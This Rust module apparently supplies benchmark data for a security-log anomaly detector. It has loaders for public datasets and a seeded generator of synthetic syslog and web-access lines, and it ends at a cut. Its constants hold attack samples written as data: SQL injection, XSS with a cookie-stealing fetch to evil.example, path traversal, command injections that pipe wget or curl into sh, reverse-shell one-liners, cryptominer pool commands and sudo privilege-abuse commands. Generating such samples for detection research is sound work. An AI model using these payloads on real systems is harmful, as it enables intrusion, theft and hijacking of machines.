//! Shared data for the benches and the scikit-learn comparison: a seeded synthetic log corpus and
//! loaders for the public data sets in `shared/data` (see each folder's README.md).
//!
//! Included with `#[path = "common/mod.rs"] mod common;` (not every includer uses every item).
//!
//! Splits are drawn with [`shuffled_indices`], a Fisher–Yates shuffle driven by splitmix64, which
//! `benches/sklearn_side.py` implements identically: both sides evaluate on the very same rows.
//!
//! Evaluation protocol per data set (also used by `sklearn_side.py`):
//! - httpparams: the author's train / test files. Anomaly models are fitted on the *normal*
//!   training rows, classifiers on all training rows; ROC AUC on the test file.
//! - HDFS (train part only is available): seeded 80/20 session split; same as httpparams.
//! - BGL 2k (no split given, 2,000 lines): the anomaly model is fitted on *all* lines, unlabeled,
//!   and its ROC AUC measured on all lines (the usual unsupervised-detection protocol); the
//!   classifier uses a seeded 50/50 split. Alerts are clustered in time, so the random split is
//!   optimistic (near-duplicates on both sides): read the BGL classifier figure as an upper bound.
//! - Synthetic corpus: the first 80% of the lines (in generation order, i.e. time order) train,
//!   the last 20% test.
#![allow(dead_code)]

use std::fmt::Write as _;
use std::path::PathBuf;

use rand::{Rng, SeedableRng};
use rand_chacha::ChaCha8Rng;

/// A labeled train / test split of texts. `true` = attack / anomaly.
#[derive(Debug, Clone, Default)]
pub(crate) struct Split {
    pub(crate) train_texts: Vec<String>,
    pub(crate) train_labels: Vec<bool>,
    /// Attack type of each training row (`norm` for benign rows; `anom` where the data set has
    /// no finer type).
    pub(crate) train_attack_types: Vec<String>,
    pub(crate) test_texts: Vec<String>,
    pub(crate) test_labels: Vec<bool>,
    /// Attack type of each test row, as `train_attack_types`.
    pub(crate) test_attack_types: Vec<String>,
}

impl Split {
    /// Training texts whose label is `false` (what anomaly models are fitted on).
    pub(crate) fn normal_train_texts(&self) -> Vec<String> {
        self.train_texts
            .iter()
            .zip(&self.train_labels)
            .filter(|(_, l)| !**l)
            .map(|(t, _)| t.clone())
            .collect()
    }
}

// ---------------------------------------------------------------------------------------------
// Data-set loaders
// ---------------------------------------------------------------------------------------------

/// `$SOC_DATA_DIR`, else `<soc-core>/../../shared/data`.
pub(crate) fn data_dir() -> PathBuf {
    match std::env::var_os("SOC_DATA_DIR") {
        Some(d) => PathBuf::from(d),
        None => PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../shared/data"),
    }
}

pub(crate) type LoadResult<T> = Result<T, Box<dyn std::error::Error + Send + Sync>>;

fn read_httpparams_csv(
    path: &std::path::Path,
) -> LoadResult<(Vec<String>, Vec<bool>, Vec<String>)> {
    let mut reader =
        csv::Reader::from_path(path).map_err(|e| format!("{}: {e}", path.display()))?;
    let headers = reader.headers()?.clone();
    let col = |name: &str| {
        headers
            .iter()
            .position(|h| h == name)
            .ok_or_else(|| format!("{}: no column `{name}`", path.display()))
    };
    let (payload, attack_type, label) = (col("payload")?, col("attack_type")?, col("label")?);
    let (mut texts, mut labels, mut types) = (Vec::new(), Vec::new(), Vec::new());
    for record in reader.records() {
        let record = record?;
        let field = |i: usize| record.get(i).unwrap_or_default().to_string();
        texts.push(field(payload));
        labels.push(field(label) == "anom");
        types.push(field(attack_type));
    }
    Ok((texts, labels, types))
}

/// HttpParamsDataset with the author's split (`payload_train.csv` / `payload_test.csv`);
/// label `anom` = attack; `attack_type` is one of `norm`, `sqli`, `xss`, `cmdi`, `path-traversal`.
pub(crate) fn httpparams() -> LoadResult<Split> {
    let dir = data_dir().join("httpparams");
    let (train_texts, train_labels, train_attack_types) =
        read_httpparams_csv(&dir.join("payload_train.csv"))?;
    let (test_texts, test_labels, test_attack_types) =
        read_httpparams_csv(&dir.join("payload_test.csv"))?;
    Ok(Split {
        train_texts,
        train_labels,
        train_attack_types,
        test_texts,
        test_labels,
        test_attack_types,
    })
}

/// Loghub BGL 2k: every line with its first token (the label: `-` = normal, else an alert
/// category) stripped, and `true` for alerts.
pub(crate) fn bgl() -> LoadResult<(Vec<String>, Vec<bool>)> {
    let path = data_dir().join("loghub_bgl_2k/BGL_2k.log");
    let raw = std::fs::read_to_string(&path).map_err(|e| format!("{}: {e}", path.display()))?;
    let mut texts = Vec::new();
    let mut labels = Vec::new();
    for line in raw.lines() {
        let line = line.trim_end_matches('\r');
        if line.trim().is_empty() {
            continue;
        }
        let line = line.trim_start();
        let (label, rest) = line.split_once(char::is_whitespace).unwrap_or((line, ""));
        texts.push(rest.trim_start().to_string());
        labels.push(label != "-");
    }
    Ok((texts, labels))
}

/// BGL with a seeded 50/50 split (for classifiers; see the module docs).
pub(crate) fn bgl_split(seed: u64) -> LoadResult<Split> {
    let (texts, labels) = bgl()?;
    let types = labels
        .iter()
        .map(|&l| if l { "anom" } else { "norm" }.to_string())
        .collect();
    Ok(split_by_indices(texts, labels, types, seed, 0.5))
}

/// HDFS_100k sessions (train part): one text per block = its event templates joined by spaces,
/// label 1 = anomalous block; seeded 80/20 split.
pub(crate) fn hdfs(seed: u64) -> LoadResult<Split> {
    #[derive(serde::Deserialize)]
    struct Session {
        label: u8,
        events: Vec<String>,
    }
    let path = data_dir().join("hdfs_100k_sessions/hdfs_100k_sessions_train.jsonl");
    let raw = std::fs::read_to_string(&path).map_err(|e| format!("{}: {e}", path.display()))?;
    let mut texts = Vec::new();
    let mut labels = Vec::new();
    for (i, line) in raw.lines().enumerate() {
        if line.trim().is_empty() {
            continue;
        }
        let s: Session =
            serde_json::from_str(line).map_err(|e| format!("{}:{}: {e}", path.display(), i + 1))?;
        texts.push(s.events.join(" "));
        labels.push(s.label != 0);
    }
    let types = labels
        .iter()
        .map(|&l| if l { "anom" } else { "norm" }.to_string())
        .collect();
    Ok(split_by_indices(texts, labels, types, seed, 0.8))
}

/// splitmix64 step (the reference constants); also implemented in `sklearn_side.py`.
fn splitmix64(state: &mut u64) -> u64 {
    *state = state.wrapping_add(0x9E37_79B9_7F4A_7C15);
    let mut z = *state;
    z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
    z ^ (z >> 31)
}

/// A seeded permutation of `0..n`: Fisher–Yates from the end, `j = splitmix64() % (i + 1)`.
/// Language-independent so that the Python side can reproduce it exactly.
pub(crate) fn shuffled_indices(n: usize, seed: u64) -> Vec<usize> {
    let mut idx: Vec<usize> = (0..n).collect();
    let mut state = seed;
    for i in (1..n).rev() {
        let j = (splitmix64(&mut state) % (i as u64 + 1)) as usize;
        idx.swap(i, j);
    }
    idx
}

/// Shuffle with [`shuffled_indices`]; the first `round(train_fraction * n)` rows train.
fn split_by_indices(
    texts: Vec<String>,
    labels: Vec<bool>,
    types: Vec<String>,
    seed: u64,
    train_fraction: f64,
) -> Split {
    let n = texts.len();
    let n_train = (train_fraction * n as f64).round() as usize;
    let mut split = Split::default();
    for (k, i) in shuffled_indices(n, seed).into_iter().enumerate() {
        if k < n_train {
            split.train_texts.push(texts[i].clone());
            split.train_labels.push(labels[i]);
            split.train_attack_types.push(types[i].clone());
        } else {
            split.test_texts.push(texts[i].clone());
            split.test_labels.push(labels[i]);
            split.test_attack_types.push(types[i].clone());
        }
    }
    split
}

/// Write `{"text": ..., "label": ...}` lines (the corpus format `sklearn_side.py --corpus` reads).
pub(crate) fn write_corpus_jsonl(
    path: &std::path::Path,
    texts: &[String],
    labels: &[bool],
) -> std::io::Result<()> {
    use std::io::Write as _;
    let mut out = std::io::BufWriter::new(std::fs::File::create(path)?);
    for (text, label) in texts.iter().zip(labels) {
        let line = serde_json::json!({ "text": text, "label": label });
        writeln!(out, "{line}")?;
    }
    out.flush()
}

// ---------------------------------------------------------------------------------------------
// Synthetic corpus
// ---------------------------------------------------------------------------------------------

const HOSTS: &[&str] = &[
    "web01",
    "web02",
    "web03",
    "db01",
    "db02",
    "mail01",
    "bastion",
    "k8s-node-1",
    "k8s-node-2",
    "build-ci",
    "vpn-gw",
    "fileserver",
];
const USERS: &[&str] = &[
    "alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi", "ivan", "judy", "deploy",
    "ansible", "backup", "jenkins", "postgres",
];
const BRUTE_USERS: &[&str] = &[
    "admin",
    "root",
    "test",
    "oracle",
    "ubuntu",
    "user",
    "guest",
    "pi",
    "ftpuser",
    "support",
    "git",
    "mysql",
    "administrator",
    "test1",
];
const MONTHS: &[&str] = &[
    "Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec",
];
const WEB_PATHS: &[&str] = &[
    "/",
    "/index.html",
    "/login",
    "/logout",
    "/dashboard",
    "/api/v1/users",
    "/api/v1/orders",
    "/api/v1/products",
    "/api/v2/search",
    "/static/css/main.css",
    "/static/js/app.js",
    "/static/img/logo.png",
    "/favicon.ico",
    "/robots.txt",
    "/health",
    "/metrics",
    "/cart",
    "/checkout",
    "/account/settings",
    "/blog",
    "/blog/2026/11/release-notes",
    "/docs/getting-started",
    "/images/banner.jpg",
    "/products",
    "/contact",
    "/about",
    "/wp-json/wp/v2/posts",
];
const QUERY_KEYS: &[&str] = &[
    "page", "id", "q", "sort", "limit", "lang", "ref", "category", "user",
];
const QUERY_VALUES: &[&str] = &[
    "1",
    "2",
    "10",
    "25",
    "asc",
    "desc",
    "en",
    "de",
    "fr",
    "shoes",
    "laptop",
    "summer+sale",
    "newsletter",
    "blue",
    "electronics",
    "books",
    "42",
    "home",
];
const USER_AGENTS: &[&str] = &[
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Firefox/132.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64) Chrome/131.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) Mobile/15E148",
    "curl/8.5.0",
    "Go-http-client/1.1",
    "python-requests/2.32.3",
    "kube-probe/1.31",
    "Prometheus/2.54.1",
    "Googlebot/2.1 (+http://www.google.com/bot.html)",
];
const SCAN_AGENTS: &[&str] = &[
    "sqlmap/1.8.11#stable (https://sqlmap.org)",
    "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)",
    "Mozilla/5.0 zgrab/0.x",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    "Nmap Scripting Engine",
];
const REFERRERS: &[&str] = &[
    "-",
    "-",
    "https://www.google.com/",
    "https://example.com/",
    "https://example.com/products",
    "https://t.co/x1Yz",
    "https://duckduckgo.com/",
];
const SERVICES: &[&str] = &[
    "nginx.service",
    "postgresql.service",
    "docker.service",
    "cron.service",
    "logrotate.service",
    "apt-daily.service",
    "snapd.service",
    "node-exporter.service",
    "fstrim.service",
];
const SQLI: &[&str] = &[
    "1' OR '1'='1",
    "1%27%20OR%201%3D1--%20-",
    "1 UNION SELECT username,password FROM users--",
    "-1+UNION+ALL+SELECT+NULL,concat(user(),0x3a,database()),NULL--",
    "1';DROP TABLE orders;--",
    "admin'--",
    "1 AND SLEEP(5)",
    "1%20AND%201=CONVERT(int,(SELECT%20@@version))",
    "' OR 1=1 LIMIT 1 -- -",
    "1) AND (SELECT 4521 FROM(SELECT COUNT(*),CONCAT(0x71,FLOOR(RAND(0)*2))x)a)",
];
const XSS: &[&str] = &[
    "<script>alert(document.cookie)</script>",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "\"><img src=x onerror=alert(1)>",
    "<svg/onload=fetch('//evil.example/'+document.cookie)>",
    "javascript:alert(String.fromCharCode(88,83,83))",
    "<iframe src=javascript:alert(1)>",
    "%22%3E%3Csvg%20onload%3Dconfirm(1)%3E",
];
const TRAVERSAL: &[&str] = &[
    "../../../../etc/passwd",
    "..%2F..%2F..%2F..%2Fetc%2Fshadow",
    "....//....//....//etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "%2e%2e%2f%2e%2e%2f%2e%2e%2fproc/self/environ",
    "/var/www/../../etc/hosts",
];
const CMDI: &[&str] = &[
    "8.8.8.8;cat+/etc/passwd",
    "127.0.0.1|id",
    "x;wget+http://185.220.101.4/x.sh+-O-|sh",
    "1.1.1.1%26%26curl+-s+http://45.9.148.3/a|bash",
    "$(whoami)",
    "`uname -a`",
    "test;nc -e /bin/sh 203.0.113.9 4444",
];
const INJECT_PARAMS: &[&str] = &[
    "id", "q", "file", "page", "host", "search", "path", "item", "name",
];
const INJECT_PATHS: &[&str] = &[
    "/products.php",
    "/search",
    "/download",
    "/api/v1/ping",
    "/index.php",
    "/view",
    "/cgi-bin/test.cgi",
    "/admin/export",
    "/api/v1/files",
];
const MINERS: &[&str] = &[
    "xmrig",
    "kdevtmpfsi",
    "kinsing",
    "minerd",
    "cpuminer",
    "xmr-stak",
];
const POOLS: &[&str] = &[
    "pool.minexmr.com:4444",
    "xmr.pool.minergate.com:45700",
    "pool.supportxmr.com:3333",
    "gulf.moneroocean.stream:10128",
];
const REVERSE_SHELLS: &[&str] = &[
    "bash -i >& /dev/tcp/{ip}/{port} 0>&1",
    "nc -e /bin/sh {ip} {port}",
    "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"{ip}\",{port}));pty.spawn(\"sh\")'",
    "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc {ip} {port} >/tmp/f",
    "socat exec:'bash -li',pty,stderr tcp:{ip}:{port}",
];
const BENIGN_COMMANDS: &[&str] = &[
    "/usr/bin/apt update",
    "/usr/bin/systemctl restart nginx",
    "/usr/bin/journalctl -u nginx",
    "/usr/bin/docker ps",
    "/bin/cat /var/log/syslog",
    "/usr/bin/tail -f /var/log/nginx/access.log",
    "/usr/sbin/reboot",
    "/usr/bin/vim /etc/nginx/nginx.conf",
    "/usr/bin/kubectl get pods",
];
const BENIGN_PROCS: &[&str] = &[
    "nginx",
    "postgres",
    "python3",
    "node",
    "java",
    "dockerd",
    "containerd",
    "sshd",
    "rsync",
    "gzip",
    "chrome",
    "systemd-journal",
];

/// Attack kinds of the synthetic corpus (for docs and tests).
pub(crate) const SYNTHETIC_ATTACKS: &[&str] = &[
    "sqli",
    "xss",
    "path-traversal",
    "cmdi",
    "ssh-bruteforce",
    "port-scan",
    "reverse-shell",
    "cryptominer",
    "sudo-abuse",
];

struct Gen {
    rng: ChaCha8Rng,
    /// Seconds since 1 Nov, 00:00 (the clock advances with every line).
    clock: u64,
}

impl Gen {
    fn pick<'a>(&mut self, items: &[&'a str]) -> &'a str {
        items[self.rng.random_range(0..items.len())]
    }

    fn private_ip(&mut self) -> String {
        match self.rng.random_range(0..3) {
            0 => format!(
                "10.{}.{}.{}",
                self.rng.random_range(0..8),
                self.rng.random_range(0..256),
                self.rng.random_range(2..255)
            ),
            1 => format!(
                "192.168.{}.{}",
                self.rng.random_range(0..4),
                self.rng.random_range(2..255)
            ),
            _ => format!(
                "172.16.{}.{}",
                self.rng.random_range(0..16),
                self.rng.random_range(2..255)
            ),
        }
    }

    fn public_ip(&mut self) -> String {
        let first = [23u32, 31, 45, 62, 78, 91, 104, 141, 185, 193, 203, 212];
        format!(
            "{}.{}.{}.{}",
            first[self.rng.random_range(0..first.len())],
            self.rng.random_range(0..256),
            self.rng.random_range(0..256),
            self.rng.random_range(1..255)
        )
    }

    fn client_ip(&mut self) -> String {
        if self.rng.random_bool(0.6) {
            self.public_ip()
        } else {
            self.private_ip()
        }
    }

    fn tick(&mut self) {
        self.clock += self.rng.random_range(0..3);
    }

    /// `Nov 24 17:23:01 web01 ` (syslog prefix).
    fn syslog_prefix(&mut self, out: &mut String, host: &str) {
        self.tick();
        let day = 1 + (self.clock / 86_400) % 28;
        let s = self.clock % 86_400;
        let _ = write!(
            out,
            "Nov {day:2} {:02}:{:02}:{:02} {host} ",
            s / 3600,
            s / 60 % 60,
            s % 60
        );
    }

    fn syslog(&mut self, out: &mut String) {
        let host = self.pick(HOSTS);
        self.syslog_prefix(out, host);
    }

    /// `[24/Nov/2026:17:23:01 +0000]`
    fn clf_time(&mut self, out: &mut String) {
        self.tick();
        let day = 1 + (self.clock / 86_400) % 28;
        let s = self.clock % 86_400;
        let _ = write!(
            out,
            "[{day:02}/{}/2026:{:02}:{:02}:{:02} +0000]",
            MONTHS[10],
            s / 3600,
            s / 60 % 60,
            s % 60
        );
    }

    fn pid(&mut self) -> u32 {
        self.rng.random_range(300..65_000)
    }

    /// A combined-log-format access line for `method target` with the given status and agent.
    fn access_line(
        &mut self,
        out: &mut String,
        ip: &str,
        method: &str,
        target: &str,
        status: u16,
        agent: &str,
    ) {
        out.push_str(ip);
        out.push_str(" - - ");
        self.clf_time(out);
        let size = if status == 304 {
            0
        } else {
            self.rng.random_range(120..48_000)
        };
        let referrer = self.pick(REFERRERS);
        let _ = write!(
            out,
            " \"{method} {target} HTTP/1.1\" {status} {size} \"{referrer}\" \"{agent}\""
        );
    }

    fn benign_web(&mut self, out: &mut String) {
        let ip = self.client_ip();
        let method = if self.rng.random_bool(0.8) {
            "GET"
        } else {
            self.pick(&["POST", "PUT", "DELETE", "HEAD"])
        };
        let mut target = self.pick(WEB_PATHS).to_string();
        if target.starts_with("/api") && self.rng.random_bool(0.4) {
            let _ = write!(target, "/{}", self.rng.random_range(1..100_000));
        }
        if self.rng.random_bool(0.35) {
            let k = self.pick(QUERY_KEYS);
            let v = self.pick(QUERY_VALUES);
            let _ = write!(target, "?{k}={v}");
            if self.rng.random_bool(0.3) {
                let k = self.pick(QUERY_KEYS);
                let _ = write!(target, "&{k}={}", self.rng.random_range(0..500));
            }
        }
        let status = *[
            200u16, 200, 200, 200, 200, 304, 301, 302, 404, 401, 403, 500, 201, 204,
        ]
        .get(self.rng.random_range(0..14))
        .unwrap_or(&200);
        let agent = self.pick(USER_AGENTS);
        self.access_line(out, &ip, method, &target, status, agent);
    }

    fn benign(&mut self, out: &mut String) {
        match self.rng.random_range(0..100) {
            0..=34 => self.benign_web(out),
            35..=44 => {
                self.syslog(out);
                let (pid, user, ip) = (self.pid(), self.pick(USERS), self.client_ip());
                let port = self.rng.random_range(1024..65_535);
                match self.rng.random_range(0..5) {
                    0 | 1 => {
                        let method = self.pick(&["publickey", "publickey", "password"]);
                        let _ = write!(
                            out,
                            "sshd[{pid}]: Accepted {method} for {user} from {ip} port {port} ssh2"
                        );
                        if method == "publickey" {
                            let _ =
                                write!(out, ": ED25519 SHA256:{:016x}", self.rng.random::<u64>());
                        }
                    }
                    2 => {
                        let _ = write!(
                            out,
                            "sshd[{pid}]: pam_unix(sshd:session): session opened for user {user}(uid={}) by (uid=0)",
                            1000 + self.rng.random_range(0..40)
                        );
                    }
                    3 => {
                        let _ = write!(
                            out,
                            "sshd[{pid}]: Received disconnect from {ip} port {port}:11: disconnected by user"
                        );
                    }
                    // An occasional mistyped password is normal.
                    _ => {
                        let _ = write!(
                            out,
                            "sshd[{pid}]: Failed password for {user} from {ip} port {port} ssh2"
                        );
                    }
                }
            }
            45..=52 => {
                self.syslog(out);
                let pid = self.pid();
                let cmd = self.pick(&[
                    "(root) CMD (run-parts /etc/cron.hourly)",
                    "(root) CMD (test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily ))",
                    "(backup) CMD (/usr/local/bin/backup.sh --incremental >/dev/null 2>&1)",
                    "(postgres) CMD (/usr/bin/vacuumdb --all --analyze-in-stages -q)",
                    "(www-data) CMD (php /var/www/app/artisan schedule:run >> /dev/null 2>&1)",
                    "(root) CMD (/usr/lib/php/sessionclean)",
                ]);
                let _ = write!(out, "CRON[{pid}]: {cmd}");
            }
            53..=64 => {
                self.syslog(out);
                let service = self.pick(SERVICES);
                match self.rng.random_range(0..5) {
                    0 => {
                        let _ = write!(
                            out,
                            "systemd[1]: Started {service} - {}.",
                            self.pick(&[
                                "A high performance web server",
                                "Daily apt download activities",
                                "Rotate log files",
                                "Discard unused blocks"
                            ])
                        );
                    }
                    1 => {
                        let _ = write!(out, "systemd[1]: {service}: Deactivated successfully.");
                    }
                    2 => {
                        let _ = write!(out, "systemd[1]: Starting {service}...");
                    }
                    3 => {
                        let _ = write!(
                            out,
                            "systemd[1]: Started session-{}.scope - Session {} of User {}.",
                            self.rng.random_range(1..9000),
                            self.rng.random_range(1..9000),
                            self.pick(USERS)
                        );
                    }
                    _ => {
                        let _ = write!(
                            out,
                            "systemd-logind[{}]: New session {} of user {}.",
                            self.pid(),
                            self.rng.random_range(1..9000),
                            self.pick(USERS)
                        );
                    }
                }
            }
            65..=74 => {
                self.syslog(out);
                let t = self.rng.random_range(100..9_000_000) as f64 + self.rng.random::<f64>();
                let _ = write!(out, "kernel: [{t:.6}] ");
                match self.rng.random_range(0..6) {
                    0 => out.push_str(self.pick(&[
                        "eth0: Link is Up - 1Gbps/Full - flow control rx/tx",
                        "e1000e 0000:00:1f.6 eno1: NIC Link is Up 1000 Mbps Full Duplex",
                    ])),
                    1 => {
                        let _ = write!(
                            out,
                            "EXT4-fs (sda{}): mounted filesystem with ordered data mode. Quota mode: none.",
                            self.rng.random_range(1..4)
                        );
                    }
                    2 => {
                        let _ = write!(
                            out,
                            "TCP: request_sock_TCP: Possible SYN flooding on port {}. Sending cookies.",
                            self.pick(&["443", "80", "8080"])
                        );
                    }
                    3 => {
                        let (src, dst) = (self.public_ip(), self.private_ip());
                        let _ = write!(
                            out,
                            "[UFW BLOCK] IN=eth0 OUT= SRC={src} DST={dst} LEN=40 TTL={} PROTO=TCP SPT={} DPT={} WINDOW=1024 SYN",
                            self.rng.random_range(40..250),
                            self.rng.random_range(1024..65_535),
                            self.pick(&["23", "445", "3389", "5900", "8088"])
                        );
                    }
                    4 => {
                        let _ = write!(
                            out,
                            "audit: type=1400 audit({}.{:03}:{}): apparmor=\"STATUS\" operation=\"profile_replace\" name=\"{}\"",
                            1_763_900_000 + self.clock,
                            self.rng.random_range(0..1000),
                            self.rng.random_range(1..999),
                            self.pick(BENIGN_PROCS)
                        );
                    }
                    _ => {
                        let _ = write!(
                            out,
                            "usb 1-{}: new high-speed USB device number {} using xhci_hcd",
                            self.rng.random_range(1..5),
                            self.rng.random_range(2..20)
                        );
                    }
                }
            }
            75..=82 => {
                self.syslog(out);
                let pid = self.pid();
                let id = format!("{:010X}", self.rng.random::<u64>() & 0xFF_FFFF_FFFF);
                match self.rng.random_range(0..4) {
                    0 => {
                        let ip = self.public_ip();
                        let _ = write!(
                            out,
                            "postfix/smtpd[{pid}]: connect from mail-{}.example.net[{ip}]",
                            self.rng.random_range(1..99)
                        );
                    }
                    1 => {
                        let _ = write!(
                            out,
                            "postfix/qmgr[{pid}]: {id}: from=<{}@example.com>, size={}, nrcpt=1 (queue active)",
                            self.pick(USERS),
                            self.rng.random_range(800..90_000)
                        );
                    }
                    2 => {
                        let _ = write!(
                            out,
                            "postfix/smtp[{pid}]: {id}: to=<{}@partner.org>, relay=mx.partner.org[{}]:25, delay=0.{}, status=sent (250 2.0.0 Ok)",
                            self.pick(USERS),
                            self.public_ip(),
                            self.rng.random_range(10..99)
                        );
                    }
                    _ => {
                        let _ = write!(
                            out,
                            "postfix/cleanup[{pid}]: {id}: message-id=<{}.{}@mail01.example.com>",
                            self.clock,
                            self.rng.random_range(0..99_999)
                        );
                    }
                }
            }
            83..=88 => {
                self.syslog(out);
                let pid = self.pid();
                let ip = self.private_ip();
                let mac = format!(
                    "{:02x}:{:02x}:{:02x}:{:02x}:{:02x}:{:02x}",
                    self.rng.random::<u8>(),
                    self.rng.random::<u8>(),
                    self.rng.random::<u8>(),
                    self.rng.random::<u8>(),
                    self.rng.random::<u8>(),
                    self.rng.random::<u8>()
                );
                match self.rng.random_range(0..3) {
                    0 => {
                        let _ = write!(
                            out,
                            "dhcpd[{pid}]: DHCPREQUEST for {ip} from {mac} via eth0"
                        );
                    }
                    1 => {
                        let _ = write!(
                            out,
                            "dhcpd[{pid}]: DHCPACK on {ip} to {mac} (laptop-{}) via eth0",
                            self.pick(USERS)
                        );
                    }
                    _ => {
                        let _ = write!(
                            out,
                            "dhclient[{pid}]: bound to {ip} -- renewal in {} seconds.",
                            self.rng.random_range(600..43_200)
                        );
                    }
                }
            }
            89..=93 => {
                self.syslog(out);
                let user = self.pick(&USERS[..6]);
                let cmd = self.pick(BENIGN_COMMANDS);
                let _ = write!(
                    out,
                    "sudo: {user} : TTY=pts/{} ; PWD=/home/{user} ; USER=root ; COMMAND={cmd}",
                    self.rng.random_range(0..6)
                );
            }
            _ => {
                // Process accounting / audit exec of ordinary programs.
                self.syslog(out);
                let proc_name = self.pick(BENIGN_PROCS);
                let _ = write!(
                    out,
                    "audit[{}]: EXECVE argc=2 a0=\"{proc_name}\" a1=\"{}\" uid={} exe=\"/usr/bin/{proc_name}\"",
                    self.pid(),
                    self.pick(&["--version", "-c", "/etc/app.conf", "start", "--daemon"]),
                    self.rng.random_range(0..1100)
                );
            }
        }
    }

    /// Writes one attack event (possibly a burst of several lines) into `lines`.
    fn attack(&mut self, lines: &mut Vec<String>, max_lines: usize) {
        let kind = self.rng.random_range(0..SYNTHETIC_ATTACKS.len());
        let mut out = String::with_capacity(160);
        match SYNTHETIC_ATTACKS[kind] {
            "sqli" | "xss" | "path-traversal" | "cmdi" => {
                let payloads = match kind {
                    0 => SQLI,
                    1 => XSS,
                    2 => TRAVERSAL,
                    _ => CMDI,
                };
                let ip = self.public_ip();
                let target = format!(
                    "{}?{}={}",
                    self.pick(INJECT_PATHS),
                    self.pick(INJECT_PARAMS),
                    self.pick(payloads)
                );
                let agent = if self.rng.random_bool(0.4) {
                    self.pick(SCAN_AGENTS)
                } else {
                    self.pick(USER_AGENTS)
                };
                let status = *[200u16, 403, 404, 500, 400]
                    .get(self.rng.random_range(0..5))
                    .unwrap_or(&200);
                self.access_line(&mut out, &ip, "GET", &target, status, agent);
                lines.push(out);
            }
            "ssh-bruteforce" => {
                let ip = self.public_ip();
                let host = self.pick(HOSTS);
                let burst = self.rng.random_range(3..9).min(max_lines);
                for _ in 0..burst {
                    let mut out = String::with_capacity(120);
                    self.syslog_prefix(&mut out, host);
                    let (pid, user, port) = (
                        self.pid(),
                        self.pick(BRUTE_USERS),
                        self.rng.random_range(1024..65_535),
                    );
                    if self.rng.random_bool(0.7) {
                        let _ = write!(
                            out,
                            "sshd[{pid}]: Failed password for invalid user {user} from {ip} port {port} ssh2"
                        );
                    } else {
                        let _ = write!(
                            out,
                            "sshd[{pid}]: Invalid user {user} from {ip} port {port}"
                        );
                    }
                    lines.push(out);
                }
            }
            "port-scan" => {
                let (src, dst) = (self.public_ip(), self.private_ip());
                let host = self.pick(HOSTS);
                let burst = self.rng.random_range(3..9).min(max_lines);
                let mut port = self.rng.random_range(1..2000);
                for _ in 0..burst {
                    let mut out = String::with_capacity(200);
                    self.syslog_prefix(&mut out, host);
                    let t = self.rng.random_range(100..9_000_000) as f64 + self.rng.random::<f64>();
                    let _ = write!(
                        out,
                        "kernel: [{t:.6}] [UFW BLOCK] IN=eth0 OUT= SRC={src} DST={dst} LEN=44 TTL={} PROTO=TCP SPT={} DPT={port} WINDOW=1024 SYN",
                        self.rng.random_range(30..60),
                        self.rng.random_range(40_000..65_535)
                    );
                    port += self.rng.random_range(1..4);
                    lines.push(out);
                }
            }
            "reverse-shell" => {
                self.syslog(&mut out);
                let shell = self
                    .pick(REVERSE_SHELLS)
                    .replace("{ip}", &self.public_ip())
                    .replace(
                        "{port}",
                        self.pick(&["4444", "1337", "9001", "443", "8443"]),
                    );
                let user = self.pick(&["www-data", "nobody", "postgres", "jenkins"]);
                let _ = write!(
                    out,
                    "audit[{}]: EXECVE uid={user} cwd=/tmp cmd={shell}",
                    self.pid()
                );
                lines.push(out);
            }
            "cryptominer" => {
                self.syslog(&mut out);
                let miner = self.pick(MINERS);
                match self.rng.random_range(0..3) {
                    0 => {
                        let _ = write!(
                            out,
                            "audit[{}]: EXECVE argc=5 a0=\"/tmp/.X11-unix/{miner}\" a1=\"-o\" a2=\"{}\" a3=\"--donate-level=1\"",
                            self.pid(),
                            self.pick(POOLS)
                        );
                    }
                    1 => {
                        let t = self.rng.random_range(100..9_000_000) as f64;
                        let _ = write!(
                            out,
                            "kernel: [{t:.6}] Out of memory: Killed process {} ({miner}) total-vm:{}kB",
                            self.pid(),
                            self.rng.random_range(500_000..4_000_000)
                        );
                    }
                    _ => {
                        let _ = write!(
                            out,
                            "CRON[{}]: (www-data) CMD (curl -fsSL http://{}/{miner}.sh | sh)",
                            self.pid(),
                            self.public_ip()
                        );
                    }
                }
                lines.push(out);
            }
            _ => {
                // sudo abuse
                self.syslog(&mut out);
                let user = self.pick(&["www-data", "nobody", "guest", "jenkins", "bob"]);
                let cmd = self.pick(&[
                    "/bin/bash",
                    "/bin/cat /etc/shadow",
                    "/usr/bin/chmod 4755 /bin/bash",
                    "/usr/bin/passwd root",
                    "/usr/sbin/useradd -o -u 0 svc",
                    "/usr/bin/find . -exec /bin/sh \\;",
                ]);
                match self.rng.random_range(0..3) {
                    0 => {
                        let _ = write!(
                            out,
                            "sudo: {user} : user NOT in sudoers ; TTY=pts/{} ; PWD=/tmp ; USER=root ; COMMAND={cmd}",
                            self.rng.random_range(0..6)
                        );
                    }
                    1 => {
                        let _ = write!(
                            out,
                            "sudo: {user} : 3 incorrect password attempts ; TTY=pts/{} ; PWD=/var/www ; USER=root ; COMMAND={cmd}",
                            self.rng.random_range(0..6)
                        );
                    }
                    _ => {
                        let _ = write!(
                            out,
                            "sudo: pam_unix(sudo:auth): authentication failure; logname={user} uid=33 euid=0 tty=/dev/pts/{} ruser={user} rhost=  user=root",
                            self.rng.random_range(0..6)
                        );
                    }
                }
                lines.push(out);
            }
        }
    }
}

/// A deterministic synthetic log corpus of `n` lines (syslog, web access, auth, mail, DHCP…)
/// with ~5% attack lines (`true`), some of them in bursts (SSH brute force, port scans).
